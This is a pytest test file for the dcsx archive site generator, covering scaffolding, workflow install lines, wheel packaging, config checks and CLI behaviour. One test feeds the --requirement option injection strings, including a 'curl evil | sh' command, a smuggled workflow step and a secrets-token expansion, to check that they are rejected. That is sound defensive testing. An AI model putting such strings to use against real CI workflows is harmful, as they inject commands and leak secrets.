"""A new archivist can publish: dcsx new makes a repository whose workflow installs this dcsx,
the config refuses references to nothing, build and serve are careful, the CLI behaves."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml

from generator import wheel
from generator.cli import main
from generator.new import new_archive, upgrade_archive

from .conftest import FIXTURES, ROOT, need

MARCH = FIXTURES / "issues" / "2023-03-14-dcsx.txt"
GIT = shutil.which("git")


def install_line(archive: Path) -> str:
    steps = yaml.safe_load((archive / ".github/workflows/pages.yml").read_text(encoding="utf-8"))["jobs"]["build"]["steps"]
    lines = [s["run"] for s in steps if "pip install" in s.get("run", "")]
    assert len(lines) == 1, lines
    return lines[0]


def git(archive: Path, *args: str) -> str:
    return subprocess.run([GIT, *args], cwd=archive, capture_output=True, text=True, check=True).stdout


def test_new_makes_a_repository_on_main_that_ignores_what_builds_make(tmp_path, capsys):
    need(GIT is not None, "git is not installed")
    arch = tmp_path / "arch"
    assert main(["new", str(arch), "--paper", "东昌府讯", "--paper", "东昌时讯"]) == 0
    out = capsys.readouterr().out
    assert "git repository on branch main" in out
    assert git(arch, "symbolic-ref", "HEAD").strip() == "refs/heads/main"
    toml = (arch / "archive.toml").read_text(encoding="utf-8")
    assert 'names = ["东昌府讯", "东昌时讯"]' in toml and 'paper = "东昌府讯"' in toml
    from generator.config import load_config

    assert load_config(arch / "archive.toml").names == ("东昌府讯", "东昌时讯")
    made = ["site/index.html", ".site.state", ".site.cache/2023.json", ".site.lock", ".site.spare/index.html",
            ".site.staging/a.html", ".site.old-12-0/a.html", ".pub.state", ".pub.spare/x", "dcsx-archive.zip",
            "dcsx-archive/index.html", "content/2023/2023-03-14/01.md.bak"]
    for rel in made:
        (arch / rel).parent.mkdir(parents=True, exist_ok=True)
        (arch / rel).write_text("x", encoding="utf-8")
    ignored = git(arch, "check-ignore", *made).split()
    assert sorted(ignored) == sorted(made)
    kept = git(arch, "status", "--porcelain", "--untracked-files=all")
    assert ".dcsx/" in kept and "archive.toml" in kept and ".github/workflows/pages.yml" in kept


def test_new_without_git_says_what_to_do(tmp_path, monkeypatch):
    from generator import new

    monkeypatch.setattr(new.shutil, "which", lambda name: None)
    made = new_archive(tmp_path / "a", papers=["东昌府讯"])
    assert "git is not installed" in made.git and "git init -b main" in made.git
    assert not (tmp_path / "a/.git").exists()


def test_the_workflow_installs_the_wheel_of_this_dcsx(tmp_path):
    arch = tmp_path / "arch"
    made = new_archive(arch, papers=["东昌府讯"], git=False)
    wheels = sorted((arch / ".dcsx").glob("*.whl"))
    assert [w.name for w in wheels] == [wheel.wheel_name()]  # this checkout is no PyPI or git install
    assert install_line(arch) == f"python -m pip install ./.dcsx/{wheels[0].name}"
    assert made.install == f"./.dcsx/{wheels[0].name}"
    names = set(zipfile.ZipFile(wheels[0]).namelist())
    assert {"generator/cli.py", "generator/_data/lunr.min.js", "generator/_data/themes/default/templates/base.html",
            "generator/skeleton/archive.toml", f"dcsx-{wheel.version()}.dist-info/RECORD",
            f"dcsx-{wheel.version()}.dist-info/entry_points.txt"} <= names
    assert not any("__pycache__" in n or n.endswith(".pyc") for n in names)
    metadata = zipfile.ZipFile(wheels[0]).read(f"dcsx-{wheel.version()}.dist-info/METADATA").decode()
    assert "Requires-Dist: pypinyin" in metadata and "pytest" not in metadata
    # The same dcsx gives the same bytes: committing the archive again changes nothing.
    again = wheel.pack_wheel(tmp_path / "again")
    assert again.read_bytes() == wheels[0].read_bytes()


def test_install_source_follows_pep_610(monkeypatch):
    class Dist:
        version = "1.2.3"

        def __init__(self, direct):
            self.direct = direct

        def read_text(self, name):
            return json.dumps(self.direct) if self.direct is not None and name == "direct_url.json" else None

    for direct, expected in [
        (None, wheel.Source(requirement="dcsx==1.2.3")),
        ({"url": "https://github.com/someone/dcsx", "vcs_info": {"vcs": "git", "commit_id": "abc123"}},
         wheel.Source(requirement="dcsx @ git+https://github.com/someone/dcsx@abc123")),
        ({"url": "file:///home/me/dcsx", "dir_info": {}}, wheel.Source(wheel=True)),
        ({"url": "file:///home/me/dcsx-0.1.0-py3-none-any.whl", "archive_info": {}}, wheel.Source(wheel=True)),
    ]:
        monkeypatch.setattr(wheel, "_distribution", lambda d=direct: Dist(d))
        assert wheel.install_source() == expected, direct
    monkeypatch.setattr(wheel, "_distribution", lambda: None)
    assert wheel.install_source() == wheel.Source(wheel=True)


def test_requirement_is_checked_and_quoted(tmp_path, capsys):
    for bad in ['dcsx"; curl evil | sh; "', "dcsx==1.0\n  - run: evil", "dcsx ${{ secrets.TOKEN }}", "dcsx==1 # x",
                "dcsx `id`", "a: b"]:
        assert main(["new", str(tmp_path / "bad"), "--requirement", bad]) == 2, bad
        assert "--requirement" in capsys.readouterr().err
        assert not (tmp_path / "bad").exists()
    arch = tmp_path / "arch"
    assert main(["new", str(arch), "--no-git", "--requirement", "dcsx @ git+https://github.com/o/dcsx@0a1b2c"]) == 0
    assert install_line(arch) == "python -m pip install 'dcsx @ git+https://github.com/o/dcsx@0a1b2c'"
    assert not (arch / ".dcsx").exists() and not (arch / ".git").exists()


def test_upgrade_points_the_workflow_at_the_running_dcsx(tmp_path, capsys):
    arch = tmp_path / "arch"
    new_archive(arch, papers=["东昌府讯"], requirement="dcsx==0.0.1", git=False)
    assert install_line(arch) == "python -m pip install dcsx==0.0.1"
    before = (arch / ".github/workflows/pages.yml").read_text(encoding="utf-8")
    assert upgrade_archive(arch) == f"./.dcsx/{wheel.wheel_name()}"
    after = (arch / ".github/workflows/pages.yml").read_text(encoding="utf-8")
    assert install_line(arch) == f"python -m pip install ./.dcsx/{wheel.wheel_name()}"
    assert [l for l in before.splitlines() if "pip install" not in l] == [l for l in after.splitlines()
                                                                         if "pip install" not in l]
    assert main(["upgrade", str(arch), "--requirement", "dcsx==0.2.0"]) == 0
    assert install_line(arch) == "python -m pip install dcsx==0.2.0" and not (arch / ".dcsx").exists()
    assert "now installs dcsx==0.2.0" in capsys.readouterr().out
    assert main(["upgrade", str(tmp_path / "nowhere")]) == 1
    assert "dcsx new" in capsys.readouterr().err


@pytest.mark.parametrize("body, said", [
    ('[site]\ndefault_section = "genral"\n[[section]]\nslug = "general"\nname = "综合"\n', "did you mean 'general'"),
    ('[paper]\nbanners = ["宣讲进行时"]\n[[section]]\nslug = "politics"\nname = "时政"\ncolumns = ["宣讲进行"]\n',
     "did you mean '宣讲进行时'"),
    ('[places]\nnames = ["柳园街道", "古楼街道"]\naliases = { "柳园讯" = "柳园街" }\n', "did you mean '柳园街道'"),
])
def test_config_references_name_something_that_exists(tmp_path, monkeypatch, capsys, body, said):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "content").mkdir()
    (tmp_path / "archive.toml").write_text(body, encoding="utf-8")
    for command in ("check", "build"):
        assert main([command]) == 2
        assert said in capsys.readouterr().err
    assert not (tmp_path / "site").exists()


def test_the_skeleton_config_has_no_second_general_section(tmp_path, monkeypatch):
    arch = tmp_path / "arch"
    new_archive(arch, papers=["东昌府讯"], git=False)
    readme = (arch / "README.md").read_text(encoding="utf-8")
    assert "pypi.org" not in readme and "dcsx bundle" in readme and "dcsx upgrade" in readme
    from generator.config import load_config

    config = load_config(arch / "archive.toml")
    assert [s.slug for s in config.all_sections()] == ["general"]


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


def test_build_outside_an_archive_or_inside_content_leaves_nothing(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert main(["build"]) == 2
    err = capsys.readouterr().err
    assert "no content folder" in err and "dcsx new" in err and "correct" not in err.lower()
    assert leftovers(tmp_path) == [] and not (tmp_path / "site").exists()
    assert main(["ingest", str(MARCH)]) == 0
    monkeypatch.chdir(tmp_path / "content")
    assert main(["build"]) == 2 and "no content folder" in capsys.readouterr().err
    assert leftovers(tmp_path / "content") == []
    monkeypatch.chdir(tmp_path)
    for out in ("content/site", "content", "."):
        assert main(["build", "--out", out]) == 2, out
        assert "--out" in capsys.readouterr().err
    assert leftovers(tmp_path / "content") == [] and not (tmp_path / "content/site").exists()
    # A build that fails on its content before there was any site leaves no lock, spare or state.
    article = tmp_path / "content/2023/2023-03-14/02.md"
    article.write_text(article.read_text(encoding="utf-8").replace("title:", "titel:", 1), encoding="utf-8")
    assert main(["build"]) == 1
    assert leftovers(tmp_path) == [] and not (tmp_path / "site").exists()


def test_version_and_bad_numbers(capsys):
    with pytest.raises(SystemExit) as exit_:
        main(["--version"])
    assert exit_.value.code == 0 and capsys.readouterr().out.strip() == f"dcsx {wheel.version()}"
    for argv in (["serve", "--port", "99999"], ["serve", "--port", "-1"], ["serve", "--port", "http"],
                 ["build", "--jobs", "0"], ["build", "-j", "many"]):
        with pytest.raises(SystemExit) as exit_:
            main(argv)
        assert exit_.value.code == 2, argv
        err = capsys.readouterr().err
        assert "Traceback" not in err and ("port" in err or "worker" in err), err


def test_the_progress_line_moves_forward_and_ends_once(tmp_path):
    """On a terminal (a pty here), with the build's two worker processes."""
    import pty
    import select

    content = tmp_path / "content"
    assert main(["ingest", str(MARCH), "--content", str(content)]) == 0
    leader, follower = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "generator", "build", "--content", str(content), "--out",
                             str(tmp_path / "site"), "--jobs", "2"], cwd=tmp_path, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=follower, env={**os.environ, "PYTHONPATH": str(ROOT)})
    os.close(follower)
    said = b""
    while True:
        ready, _, _ = select.select([leader], [], [], 120)
        if not ready:
            break
        try:
            chunk = os.read(leader, 4096)
        except OSError:  # the build ended and closed its end
            break
        if not chunk:
            break
        said += chunk
    assert proc.wait(timeout=60) == 0
    text = said.decode("utf-8", "replace")
    counts = [int(n) for n in re.findall(r"pages: (\d+)/\d+", text)]
    assert counts and counts == sorted(counts), text
    assert "done" not in text, text  # stages clear their line; the summary is the one line that stays
    assert text.count("\n") <= 1, text


def test_the_project_can_be_released(tmp_path):
    assert "MIT License" in (ROOT / "LICENSE").read_text(encoding="utf-8")
    assert "## [Unreleased]" in (ROOT / "CHANGELOG.md").read_text(encoding="utf-8")
    tests = yaml.safe_load((ROOT / ".github/workflows/test.yml").read_text(encoding="utf-8"))
    runs = " ".join(s.get("run", "") for s in tests["jobs"]["test"]["steps"])
    assert ".ci/run" in runs and "chromium" in runs
    release = yaml.safe_load((ROOT / ".github/workflows/release.yml").read_text(encoding="utf-8"))
    assert release[True]["push"]["tags"] == ["v*"]  # YAML 1.1 reads the key `on` as true
    build = " ".join(s.get("run", "") for s in release["jobs"]["build"]["steps"])
    assert "npm ci" in build and "python -m build --wheel --sdist" in build
    pypi = release["jobs"]["pypi"]
    assert pypi["permissions"] == {"id-token": "write"}
    assert any(s.get("uses", "").startswith("pypa/gh-action-pypi-publish") for s in pypi["steps"])
    assert not any("password" in json.dumps(s) for s in pypi["steps"])  # trusted publishing, no token
    sdist = (ROOT / "MANIFEST.in").read_text(encoding="utf-8")
    assert "LICENSE" in sdist and "package-lock.json" in sdist


def test_a_new_archive_takes_every_corpus_issue_and_check_passes(tmp_path, monkeypatch, capsys, corpus):
    arch = tmp_path / "arch"
    assert main(["new", str(arch), "--no-git", "--paper", "东昌府讯"]) == 0
    monkeypatch.chdir(arch)
    for n, path in enumerate(sorted(corpus.glob("*.txt"))):
        if main(["-q", "ingest", str(path)]) != 0:  # an issue that prints no date is given one
            assert "--date" in capsys.readouterr().err
            assert main(["-q", "ingest", str(path), "--date", f"2021-01-{n + 1:02d}"]) == 0
    capsys.readouterr()
    assert main(["check"]) == 0
    assert "0 problems" in capsys.readouterr().out
    assert main(["-q", "build"]) == 0
